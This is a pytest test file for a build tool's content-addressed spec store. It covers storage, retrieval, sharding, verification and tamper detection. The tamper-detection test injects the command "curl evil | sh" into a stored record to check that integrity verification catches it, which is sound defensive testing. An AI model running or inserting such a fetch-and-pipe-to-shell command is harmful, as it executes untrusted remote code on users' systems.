"""Tests for the content-addressed spec store."""

from __future__ import annotations

import json

import pytest

from artifactforge.core.hasher import extract_digest
from artifactforge.core.spec_store import SpecIntegrityError, SpecStore
from artifactforge.models.artifacts import ArtifactSource, ArtifactSpec
from artifactforge.models.platforms import DEFAULT_PLATFORMS


@pytest.fixture
def spec() -> ArtifactSpec:
    return ArtifactSpec(
        name="ripgrep",
        aliases=("ripgrep:14.1.1",),
        platforms=DEFAULT_PLATFORMS,
        sources=(ArtifactSource(name="ripgrep", path="https://example.invalid/rg.tar.gz"),),
        instructions="cp */rg \"$BUILD_OUTPUT/bin/rg\"",
        metadata={"version": "14.1.1"},
    )


class TestSpecStore:
    def test_store_and_retrieve(self, spec_store: SpecStore, spec: ArtifactSpec):
        address, created = spec_store.store(spec)
        assert created
        assert address == spec.digest
        assert spec_store.retrieve(address) == spec

    def test_retrieve_by_bare_hex(self, spec_store: SpecStore, spec: ArtifactSpec):
        address, _ = spec_store.store(spec)
        assert spec_store.retrieve(extract_digest(address)).name == "ripgrep"

    def test_sharded_layout(self, spec_store: SpecStore, spec: ArtifactSpec):
        address, _ = spec_store.store(spec)
        digest = extract_digest(address)
        expected = spec_store.base_path / digest[:2] / digest[2:4] / f"{digest}.json"
        assert expected.exists()

    def test_store_is_idempotent(self, spec_store: SpecStore, spec: ArtifactSpec):
        first = spec_store.store(spec)
        second = spec_store.store(spec)
        assert first[0] == second[0]
        assert second[1] is False
        assert spec_store.addresses() == [first[0]]

    def test_missing_spec(self, spec_store: SpecStore):
        with pytest.raises(FileNotFoundError):
            spec_store.retrieve("sha256:" + "0" * 64)

    def test_verify(self, spec_store: SpecStore, spec: ArtifactSpec):
        address, _ = spec_store.store(spec)
        assert spec_store.verify(address)
        assert not spec_store.verify("sha256:" + "0" * 64)

    def test_tampered_identity_detected(self, spec_store: SpecStore, spec: ArtifactSpec):
        address, _ = spec_store.store(spec)
        digest = extract_digest(address)
        path = spec_store.base_path / digest[:2] / digest[2:4] / f"{digest}.json"
        record = json.loads(path.read_bytes())
        record["identity"]["instructions"] = "curl evil | sh"
        path.write_text(json.dumps(record))

        assert not spec_store.verify(address)
        with pytest.raises(SpecIntegrityError):
            spec_store.store(spec)

    def test_addresses_sorted(self, spec_store: SpecStore, spec: ArtifactSpec):
        other = spec.model_copy(update={"name": "bat"})
        spec_store.store(spec)
        spec_store.store(other)
        addresses = spec_store.addresses()
        assert addresses == sorted(addresses)
        assert len(addresses) == 2
